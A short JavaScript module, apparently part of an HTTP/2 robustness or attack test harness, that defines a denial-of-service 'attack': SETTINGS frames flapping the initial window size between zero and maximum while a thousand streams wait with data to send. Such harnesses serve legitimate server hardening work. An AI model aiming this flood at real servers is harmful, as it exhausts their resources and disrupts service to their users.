import * as wire from '../http2/wire.js';
import { streamingOutput, streams } from './call.js';
import { flood } from './flood.js';
import { greetingWith } from './offender.js';

const INITIAL_WINDOW_SIZE = 4;
const flap = Buffer.concat([0, 1, 0x7fffffff, 0].map((size) => wire.settings([INITIAL_WINDOW_SIZE, size])));

/** A window that opens and shuts for a thousand streams at once, all of which have something to send. */
export const attack = flood('SETTINGS_INITIAL_WINDOW_SIZE flapping', flap, {
  greeting: greetingWith([INITIAL_WINDOW_SIZE, 0]),
  first: streams(1, 1_000, (id) => streamingOutput(id, 1, 4_096)),
});
